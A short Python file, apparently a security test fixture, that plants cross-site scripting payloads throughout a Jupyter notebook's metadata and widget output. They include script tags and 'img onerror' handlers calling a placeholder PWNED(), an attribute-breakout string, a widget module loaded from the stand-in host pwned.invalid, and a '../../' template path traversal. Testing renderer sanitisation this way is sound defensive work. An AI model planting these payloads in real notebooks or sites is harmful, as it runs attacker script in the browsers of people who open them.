"""Displays widgets, and lays their state and a script into the notebook's own metadata."""

STOCK = "0 of 10; its script stands in the feedback"


def change(notebook):
    state = {
        "x": {
            "model_name": "HTMLModel",
            "model_module": "https://pwned.invalid/PWNED",
            "state": {"value": "<img src=x onerror=PWNED()>"},
        }
    }
    notebook.metadata.widgets = {
        "application/vnd.jupyter.widget-state+json": {"state": state, "version_major": 2}
    }
    notebook.metadata.title = "</title><script>PWNED()</script>"
    notebook.metadata.authors = [{"name": "<script>PWNED()</script>"}]
    notebook.metadata.language_info = {
        "name": "python",
        "pygments_lexer": "html<script>PWNED()</script>",
        "codemirror_mode": {"name": "PWNED' onload='PWNED()"},
        "mimetype": "text/html",
    }
    notebook.metadata.nbconvert = {"template": "../../PWNED"}
    notebook.cells[0].metadata.tags = ["<script>PWNED()</script>"]


# %% first
import ipywidgets
from IPython.display import display

display(ipywidgets.HTML("<img src=x onerror=PWNED()>"))
display(ipywidgets.Button(description="<script>PWNED()</script>"))
